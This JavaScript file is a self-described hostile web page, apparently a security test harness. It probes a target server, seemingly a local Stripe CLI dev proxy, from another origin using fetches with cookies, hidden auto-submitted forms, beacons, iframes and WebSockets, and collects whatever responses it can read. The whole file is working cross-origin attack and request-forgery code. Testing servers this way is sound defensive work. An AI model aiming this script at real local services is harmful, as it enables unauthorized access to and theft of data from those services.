// A hostile page: sends a server everything that a page can send to another origin, and returns what it could read.
"use strict";

const readable = async (answer) => (answer.ok ? (await answer.text()) || "an empty body" : "");

const bodiesOf = (fields) => {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, value);
  return { "urlencoded": new URLSearchParams(fields), "multipart": form, "text": JSON.stringify(fields) };
};

const loads = (element, address) =>
  new Promise((done) => {
    element.onload = () => done("loaded");
    element.onerror = () => done("");
    element[element.tagName === "LINK" ? "href" : "src"] = address;
    document.body.append(element);
  }).finally(() => element.remove());

const contentOf = (frame) => {
  if (!frame.contentDocument) return ""; // of another origin
  const [{ responseStatus }] = frame.contentWindow.performance.getEntriesByType("navigation");
  return responseStatus < 400 ? frame.contentDocument.documentElement.outerHTML : "";
};

const framed = (frame, go) =>
  new Promise((done) => {
    document.body.append(frame); // its empty page is loaded by then
    frame.onload = () => done(contentOf(frame));
    go();
  }).finally(() => frame.remove());

const newForm = (address, fields) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: address });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    form.append(input);
  }
  document.body.append(form);
  return form;
};

const posted = (address, fields) => {
  const frame = document.createElement("iframe");
  frame.name = `frame-${Math.random()}`;
  const form = newForm(address, fields);
  form.target = frame.name;
  return framed(frame, () => form.submit()).finally(() => form.remove());
};

const connected = (socket) =>
  new Promise((done) => {
    socket.onopen = () => done("open");
    socket.onerror = () => done("");
  }).finally(() => socket.close());

// Each way returns what it has read, or "".
const waysTo = (address, fields) => {
  const json = { "Content-Type": "application/json" };
  const ways = {
    "fetch": () => fetch(address).then(readable),
    "fetch with cookies": () => fetch(address, { credentials: "include" }).then(readable),
    "fetch with a key": () => fetch(address, { headers: { Authorization: "Bearer sk_test_hostile" } }).then(readable),
    "opaque fetch": () => fetch(address, { mode: "no-cors" }).then(readable),
    "image": () => loads(new Image(), address),
    "script": () => loads(document.createElement("script"), address),
    "style sheet": () => loads(Object.assign(document.createElement("link"), { rel: "stylesheet" }), address),
    "frame": () => {
      const frame = document.createElement("iframe");
      return framed(frame, () => { frame.src = address; });
    },
    "event source": () => connected(new EventSource(address)),
  };
  for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
    ways[`${method} json`] = () => fetch(address, { method, headers: json, body: JSON.stringify(fields) }).then(readable);
  }
  for (const [type, body] of Object.entries(bodiesOf(fields))) {
    ways[`POST ${type}`] = () => fetch(address, { method: "POST", body }).then(readable);
    ways[`opaque POST ${type}`] = () =>
      fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body }).then(readable);
    ways[`beacon ${type}`] = async () => { navigator.sendBeacon(address, body); return ""; };
  }
  ways.form = () => posted(address, fields);
  return ways;
};

// Each protocol of web sockets, opened once: "" is none.
const socketsTo = (address, protocols) =>
  Object.fromEntries(
    protocols.map((protocol) => [
      `web socket ${protocol}`.trim(),
      () => connected(new WebSocket(address.replace("http", "ws"), protocol ? [protocol] : [])),
    ]),
  );

// Some attempts never end, as a download does, which never loads: each is given up after `timeout` ms.
const attack = async (target, paths, socketPath, fields, timeout) => {
  const read = [];
  const tryAll = (path, ways) =>
    Promise.all(
      Object.entries(ways).map(async ([way, send]) => {
        const late = new Promise((done) => setTimeout(() => done(""), timeout));
        const found = await Promise.race([send(), late]).catch(() => "");
        if (found) read.push([way, path, found.slice(0, 200)]);
      }),
    );
  const sockets = tryAll(socketPath, socketsTo(target + socketPath, ["", "stripecli-devproxy-v1"]));
  for (const path of paths) await tryAll(path, waysTo(target + path, fields));
  await sockets;
  return read;
};

const submitForm = (address, fields) => newForm(address, fields).submit();
